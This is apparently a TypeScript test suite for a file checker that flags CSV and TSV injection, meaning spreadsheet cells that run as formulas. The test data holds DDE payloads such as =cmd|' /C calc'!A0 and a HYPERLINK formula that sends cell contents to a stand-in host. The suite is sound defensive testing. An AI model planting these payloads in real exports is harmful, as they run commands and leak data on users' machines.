import { checkFile } from '../file.checker';
import { chunked, textSource } from '../testing/byte-source.fixture';
import { buildWorkbook } from '../testing/workbook.builder';

const formulaFindings = async (name: string, text: string) => (await checkFile(name, textSource(text))).findings.filter((f) => f.rule === 'formula');

describe('CSV injection (OWASP): text a spreadsheet runs as a formula', () => {
  it.each([
    ['a DDE call in a row label', `ward,count\n=cmd|' /C calc'!A0,120\nB,98\nC,57\n`],
    ['a leading plus', `ward,count\n+cmd|' /C calc'!A0,120\nB,98\nC,57\n`],
    ['a leading minus', `ward,count\nA,120\n-2+3+cmd|' /C calc'!A0,98\nC,57\n`],
    ['a leading at sign', `ward,count\nA,120\nB,98\n@SUM(1+9)*cmd|' /C calc'!A0,57\n`],
    ['a quoted cell with leading spaces', `ward,count\nA,120\n"  =HYPERLINK(""http://x.test/?""&A1)",98\n`],
    ['a column label', `ward,=cmd|' /C calc'!A0\nA,120\nB,98\n`],
    ['a tab-separated table', `ward\tcount\n=cmd|' /C calc'!A0\t120\nB\t98\n`],
  ])('sends %s to review, naming where', async (_case, text) => {
    const name = text.includes('\t') ? 'table.tsv' : 'table.csv';
    const result = await checkFile(name, textSource(text));
    expect(result.verdict).not.toBe('pass');
    const [finding, ...rest] = result.findings.filter((f) => f.rule === 'formula');
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({ verdict: 'review', message: expect.stringContaining('CSV injection') });
    expect(finding.message).not.toMatch(/cmd|HYPERLINK/);
  });

  it('leaves formulas among the counts to the threshold rule, which sends them to review', async () => {
    const result = await checkFile('t.csv', textSource(`ward,count\nA,=1+2\nB,98\n`));
    expect(result.findings.map((f) => [f.rule, f.verdict])).toEqual([['threshold', 'review']]);
  });

  it('names the row labels it found', async () => {
    const [finding] = await formulaFindings('t.csv', `ward,count\nA,120\n=cmd|' /C calc'!A0,98\n`);
    expect(finding.cells).toEqual([{ row: 1, column: 0, rowLabel: `=cmd|' /C calc'!A0`, columnLabel: 'ward' }]);
  });

  it('counts every such cell and lists only the first ones', async () => {
    const rows = Array.from({ length: 300 }, (_, i) => `=A${i},${20 + i}`).join('\n');
    const [finding] = await formulaFindings('t.csv', `ward,count\n${rows}\n`);
    expect(finding).toMatchObject({ cellCount: 300 });
    expect(finding.cells).toHaveLength(200);
  });

  it.each([
    ['negative and signed numbers', 'ward,change\nA,-5\nB,+12\nC,-1.5e3\nD,"-1,234"\n'],
    ['a dash used as a suppression mark', 'ward,count\nA,-\nB,120\n'],
    ['a label with a dash inside', 'ward,count\nnorth-east,120\nsouth-west,98\n'],
  ])('leaves %s alone', async (_case, text) => {
    expect(await formulaFindings('t.csv', text)).toEqual([]);
  });

  it('does not look in a workbook, whose text cells stay text when opened', async () => {
    const workbook = buildWorkbook([
      {
        name: 'Sheet1',
        rows: [
          ['ward', 'count'],
          ['=cmd', 120],
          ['B', 98],
        ],
      },
    ]);
    const result = await checkFile('book.xlsx', chunked(workbook));
    expect(result.findings.filter((f) => f.rule === 'formula')).toEqual([]);
  });
});
